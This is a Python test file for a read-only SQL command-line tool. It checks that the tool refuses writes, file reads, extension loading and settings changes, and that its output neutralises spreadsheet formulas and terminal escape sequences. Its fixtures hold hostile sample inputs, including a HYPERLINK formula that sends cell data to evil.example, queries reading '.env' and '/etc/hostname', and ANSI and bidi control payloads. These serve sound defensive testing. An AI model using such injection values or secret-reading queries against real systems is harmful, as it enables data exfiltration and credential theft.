"""`corridor query`: read-only SQL on the analysts' snapshot (the warehouse while there is none), read-only by
construction, with output that is safe in a spreadsheet and on a terminal."""
import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import time

import pytest

from corridor.cli import main
from corridor.engine.snapshot import write_snapshot
from corridor.warehouse import Warehouse

from fixtures.warehouse import fresh_warehouse

SECRET = "do-not-read-this-secret"
HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
    "plain", "a=b", "\x1b[31mred\x1b[0m\x07", "\x9b2Jcleared", "abc\u202edcba", "two\nlines",
]


def corridor(*argv):
    """Exit status of `corridor argv`, whether main returns it or the command exits with it."""
    try:
        return main(list(argv))
    except SystemExit as exc:
        return exc.code


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """A working directory with a warehouse, a `.env` holding a secret and a CSV file beside it."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CORRIDOR_WAREHOUSE", str(tmp_path / "w.duckdb"))
    monkeypatch.delenv("CORRIDOR_SNAPSHOT", raising=False)
    (tmp_path / ".env").write_text(f"SOME_TOKEN={SECRET}\n")
    (tmp_path / "data.csv").write_text(f"a,b\n1,{SECRET}\n")
    with fresh_warehouse(tmp_path) as wh:  # a copy of one bootstrapped file
        con = wh.cursor()
        con.execute("INSERT INTO meta.load (load_id, operator_code, feed, status, started_utc, error)"
                    " VALUES ('L-warehouse', 'KTZ', 'cargo', 'SUCCEEDED', TIMESTAMP '2024-03-01 02:00', ?)", [HOSTILE[0]])
        con.execute("CHECKPOINT")
    return tmp_path


@pytest.fixture
def snapshot(folder):
    """The same warehouse with a snapshot written, then one more load only the warehouse has."""
    with Warehouse(folder / "w.duckdb") as wh:
        write_snapshot(wh.cursor(), folder / "snapshot.duckdb")
        wh.cursor().execute("INSERT INTO meta.load (load_id, operator_code, feed, status, started_utc)"
                            " VALUES ('L-after-snapshot', 'ADY', 'cargo', 'RUNNING', TIMESTAMP '2024-03-02 02:00')")
        wh.cursor().execute("CHECKPOINT")
    return folder / "snapshot.duckdb"


def _state(folder):
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


REFUSED = [
    ("COPY core.dim_operator TO 'out.csv'", "COPY statement"),
    ("COPY (SELECT * FROM meta.load) TO 'out.parquet' (FORMAT parquet)", "COPY statement"),
    ("EXPORT DATABASE 'exported'", "EXPORT statement"),
    ("ATTACH 'other.duckdb' AS other", "ATTACH statement"),
    ("ATTACH ':memory:' AS m", "ATTACH statement"),
    ("INSTALL httpfs", "INSTALL statement"),
    ("LOAD httpfs", "LOAD statement"),
    ("SET threads = 1", "SET statement"),
    ("SET enable_external_access = true", "SET statement"),
    ("RESET lock_configuration", "RESET statement"),
    ("PRAGMA enable_profiling", "PRAGMA statement"),
    ("SELECT * FROM read_text('.env')", "reads or writes files"),
    ("SELECT content FROM read_text('/etc/hostname')", "reads or writes files"),
    ("SELECT * FROM read_csv('data.csv')", "reads or writes files"),
    ("FROM 'data.csv'", "reads or writes files"),
    ("SELECT * FROM glob('*')", "reads or writes files"),
    ("CREATE TABLE core.x AS SELECT 1 AS a", "CREATE statement"),
    ("CREATE TEMP TABLE x AS SELECT 1 AS a", "CREATE statement"),
    ("INSERT INTO meta.load (load_id) VALUES ('x')", "INSERT statement"),
    ("DELETE FROM core.dim_operator", "DELETE statement"),
    ("UPDATE core.dim_operator SET name = 'x'", "UPDATE statement"),
    ("DROP TABLE core.dim_operator", "DROP statement"),
    ("CHECKPOINT", "CALL statement"),
    ("BEGIN TRANSACTION", "TRANSACTION statement"),
    ("USE memory", "USE statement"),
    ("EXPLAIN ANALYZE COPY (SELECT 1) TO 'out.csv'", "EXPLAIN of a COPY statement"),
    ("SELECT 1; COPY core.dim_operator TO 'out.csv'", "2 statements"),
]


@pytest.mark.parametrize("sql, kind", REFUSED, ids=[sql for sql, _ in REFUSED])
def test_statements_that_write_attach_load_set_or_touch_files_are_refused(snapshot, sql, kind, capsys):
    before = _state(snapshot.parent)
    assert corridor("query", sql) == 2
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1 and err.startswith("corridor: refused:"), err
    assert kind in err and "read-only" in err or "files" in err
    assert SECRET not in err
    assert _state(snapshot.parent) == before, "nothing written, nothing new"


@pytest.mark.parametrize("sql", ["", "   ", ";", "-- a comment only"])
def test_empty_sql_is_one_line_and_exit_2(folder, sql, capsys):
    assert corridor("query", "--", sql) == 2
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1 and "no SQL given" in err


@pytest.mark.parametrize("sql, message", [
    ("SELEC 1", "Parser Error"),
    ("SELECT * FROM core.no_such_table", "Catalog Error"),
    ("SELECT no_such_column FROM core.dim_operator", "Binder Error"),
    ("SELECT 'x'::INTEGER", "Conversion Error"),
])
def test_bad_sql_is_one_line_and_exit_2(folder, sql, message, capsys):
    assert corridor("query", sql) == 2
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1 and err.startswith("corridor: bad SQL:") and message in err


def test_help_says_what_is_refused(capsys):
    assert corridor("query", "--help") == 0
    text = " ".join(capsys.readouterr().out.split())
    for words in ("snapshot", "read-only", "refused", "exit status 2", "Bad SQL, empty SQL",
                  "install or load extensions", "change settings", "read or write files", "formula",
                  "control characters"):
        assert words in text, words


def test_a_query_reads_the_warehouse_while_there_is_no_snapshot(folder, capsys):
    assert corridor("query", "SELECT current_database() AS db, count(*) AS loads FROM meta.load", "--format", "csv") == 0
    assert capsys.readouterr().out == "db,loads\nw,1\n"


def test_a_query_reads_the_snapshot_when_there_is_one(snapshot, capsys):
    sql = "SELECT current_database() AS db, string_agg(load_id, ' ' ORDER BY load_id) AS loads FROM meta.load"
    assert corridor("query", sql, "--format", "json") == 0
    assert json.loads(capsys.readouterr().out) == [{"db": "snapshot", "loads": "L-warehouse"}]
    for sql in ("DESCRIBE marts.corridor_volume_monthly", "SUMMARIZE core.dim_operator",
                "PRAGMA table_info('core.dim_operator')", "EXPLAIN SELECT * FROM core.dim_operator",
                "WITH o AS (FROM core.dim_operator) SELECT count(*) FROM o",
                "PIVOT core.dim_operator ON operator_type IN ('RAIL', 'PORT') USING count(*) GROUP BY country_code"):
        assert corridor("query", sql) == 0, sql
        assert capsys.readouterr().out.rstrip().endswith(("rows)", "row)")), sql


def _holds_open(pid, path):
    try:
        return any(os.path.realpath(f"/proc/{pid}/fd/{fd}") == str(path) for fd in os.listdir(f"/proc/{pid}/fd"))
    except (FileNotFoundError, ProcessLookupError):
        return False


@pytest.mark.integration  # a writer in another process
def test_a_query_on_the_snapshot_does_not_block_a_writer(snapshot):
    # A query that runs for a few seconds, in its own process, as an analyst's would.
    slow = "SELECT count(*) AS n, sum(hash(range)) > 0 AS busy FROM range(300000000)"
    env = {**os.environ, "CORRIDOR_WAREHOUSE": str(snapshot.parent / "w.duckdb")}
    analyst = subprocess.Popen([sys.executable, "-m", "corridor.cli", "query", slow, "--format", "csv"],
                               cwd=snapshot.parent, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 60
        while not _holds_open(analyst.pid, snapshot.resolve()):
            assert analyst.poll() is None and time.monotonic() < deadline, analyst.stderr.read()
            time.sleep(0.01)
        # Meanwhile the sync opens the warehouse for writing, writes, and replaces the snapshot.
        started = time.monotonic()
        with Warehouse(snapshot.parent / "w.duckdb") as wh:
            wh.cursor().execute("UPDATE meta.load SET status = 'SUCCEEDED' WHERE load_id = 'L-after-snapshot'")
            write_snapshot(wh.cursor(), snapshot)
        wrote_in = time.monotonic() - started
        assert analyst.poll() is None, "the query was still running while the writer wrote"
        out, err = analyst.communicate(timeout=120)
    finally:
        if analyst.poll() is None:
            analyst.kill()
            analyst.wait()
    assert analyst.returncode == 0, err
    assert out == "n,busy\n300000000,True\n" and wrote_in < 30
    done = subprocess.run([sys.executable, "-m", "corridor.cli", "query", "SELECT count(*) AS n FROM meta.load",
                           "--format", "csv"], cwd=snapshot.parent, env=env, capture_output=True, text=True)
    assert done.stdout == "n\n2\n", "a new query sees the new snapshot"


def _hostile_query():
    values = ", ".join("(" + str(i) + ", " + "'" + v.replace("'", "''") + "')" for i, v in enumerate(HOSTILE))
    return f"SELECT i, text, -5 AS n, -2.5::DECIMAL(12,3) AS w FROM (VALUES {values}) AS v(i, text)"


def test_csv_output_neutralises_formulas(folder, capsys):
    assert corridor("query", _hostile_query() + " ORDER BY i", "--format", "csv") == 0
    parsed = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert parsed[0] == ["i", "text", "n", "w"]
    cells = {row[0]: row[1] for row in parsed[1:]}
    for i, value in enumerate(HOSTILE):
        expected = "'" + value if value[0] in "=+-@\t\r" else value
        assert cells[str(i)] == expected, value
    assert {(row[2], row[3]) for row in parsed[1:]} == {("-5", "-2.500")}, "numbers stay numbers"
    # The warehouse keeps the value as received; only the CSV cell is neutralised.
    assert corridor("query", "SELECT error FROM meta.load", "--format", "json") == 0
    assert json.loads(capsys.readouterr().out) == [{"error": HOSTILE[0]}]
    assert corridor("query", "SELECT error FROM meta.load", "--format", "csv") == 0
    assert capsys.readouterr().out == "error\n" + '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n'


def test_the_table_view_strips_control_characters(folder, capsys):
    assert corridor("query", _hostile_query() + " ORDER BY i", "--format", "table") == 0
    out = capsys.readouterr().out
    assert not [c for c in out if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0 or c == "\u202e"]
    lines = out.splitlines()
    assert len(lines) == 2 + len(HOSTILE) + 1, "one line per row: line breaks inside values are spaces"
    assert "[31mred[0m" in out and "2Jcleared" in out and "abcdcba" in out and "two lines" in out
    assert corridor("query", "SELECT 1 AS \"\x1b]0;title\x07col\"") == 0
    assert capsys.readouterr().out.splitlines()[0].strip() == "]0;titlecol"


def test_json_output_keeps_values_and_escapes_control_characters(folder, capsys):
    assert corridor("query", _hostile_query() + " ORDER BY i", "--format", "json") == 0
    out = capsys.readouterr().out
    assert not [c for c in out if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0 or c == "\u202e"]
    assert [r["text"] for r in json.loads(out)] == HOSTILE
